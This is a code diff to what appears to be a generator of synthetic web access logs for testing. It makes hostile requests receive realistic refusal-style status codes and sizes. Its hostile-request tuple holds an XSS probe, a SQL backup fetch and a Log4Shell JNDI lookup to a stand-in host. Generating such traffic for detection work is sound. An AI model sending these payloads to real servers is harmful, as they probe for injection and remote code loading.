@@ -28,6 +28,8 @@ _HOSTILE = (
     "GET /?x=%%3Cscript%%3Ealert(%d)%%3C/script%%3E HTTP/1.1", "GET /backup-%d.sql HTTP/1.1",
     "GET /?a=$%%7Bjndi:ldap://x%d.example/a%%7D HTTP/1.1",
 )  # fmt: skip
+_ANSWERS = ((404, 196), (404, 153), (403, 199), (400, 226), (302, 0), (500, 530), (200, 5_120))
+"""What a site that withstands answers: mostly refusals, sometimes its own page for anything."""
 
 
 def batches(count: int, seed: int = 2) -> Iterator[bytes]:
@@ -76,10 +78,10 @@ def _stamps(start: int, size: int, count: int) -> list[bytes]:
 
 def _hostile(chance: random.Random, client: bytes, stamp: bytes) -> bytes:
     request = chance.choice(_HOSTILE) % chance.randrange(100_000)
-    status = chance.choice((200, 200, 403, 404, 500))
+    status, size = chance.choice(_ANSWERS)
     agent = chance.choice((b"sqlmap/1.7", b"curl/8.5", b"Mozilla/5.0 zgrab/0.x", b"-"))
     return b'%s - - [%s +0700] "%s" %d %d "-" "%s"\n' % (
-        client, stamp, request.encode(), status, chance.randrange(200, 9_000), agent,
+        client, stamp, request.encode(), status, size, agent,
     )  # fmt: skip
 
 
